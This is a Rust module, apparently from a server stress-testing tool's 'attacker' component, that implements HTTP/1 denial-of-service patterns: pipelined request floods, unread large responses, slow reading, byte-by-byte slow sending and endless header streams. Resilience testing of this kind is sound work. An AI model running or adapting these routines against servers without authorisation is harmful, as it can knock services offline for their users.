//! Heads of HTTP/1: many small ones, slow ones, endless ones; and answers that nobody wants.

use std::io;
use std::time::Duration;

use tokio::time::sleep;

use super::streams::asked;
use crate::attacker::{Field, Line, Way};

/// The smallest request that there is.
const TINY: &[u8] = b"GET / HTTP/1.1\r\nHost:a\r\n\r\n";
const LARGE: &[u8] = b"GET /large HTTP/1.1\r\nHost: a\r\n\r\n";
/// Requests that are written at once.
const BATCH: u32 = 32;

pub async fn pipelining(line: &mut Line, field: &Field) -> io::Result<()> {
    let batch = TINY.repeat(BATCH as usize);
    loop {
        field.pace(BATCH).await;
        field.tally.begin(u64::from(BATCH));
        line.write(&batch).await?;
        field.tally.end(u64::from(BATCH));
        line.hear_now()?;
    }
}

pub async fn unread_answers(line: &mut Line, field: &Field) -> io::Result<()> {
    loop {
        field.pace(1).await;
        field.tally.begin(1);
        line.write(LARGE).await?;
        field.tally.end(1);
    }
}

pub async fn slow_reading(line: &mut Line, field: &Field) -> io::Result<()> {
    const REQUESTS: u32 = 50;
    match field.orders.way {
        Way::Plain | Way::Tls => {
            for _ in 0..REQUESTS {
                field.pace(1).await;
                field.tally.begin(1);
                line.write(LARGE).await?;
                field.tally.end(1);
            }
        }
        Way::H2c | Way::H2 => asked(line, field, REQUESTS).await?,
    }
    loop {
        line.sip().await?;
        sleep(Duration::from_secs(1)).await;
    }
}

pub async fn slow_sending(line: &mut Line, field: &Field) -> io::Result<()> {
    field.tally.begin(1);
    for byte in b"GET /slow HTTP/1.1\r\nHost: a\r\nX-Slow: ".iter().chain(&[b'x'; 64]) {
        line.write(&[*byte]).await?;
        line.hear_within(Duration::from_secs(1)).await?;
    }
    Ok(())
}

pub async fn endless(line: &mut Line, field: &Field) -> io::Result<()> {
    field.tally.begin(1);
    line.write(b"GET /endless HTTP/1.1\r\nHost: a\r\n").await?;
    let more = format!("X-More: {}\r\n", "m".repeat(80));
    loop {
        field.pace(1).await;
        line.write(more.as_bytes()).await?;
        line.hear_now()?;
    }
}
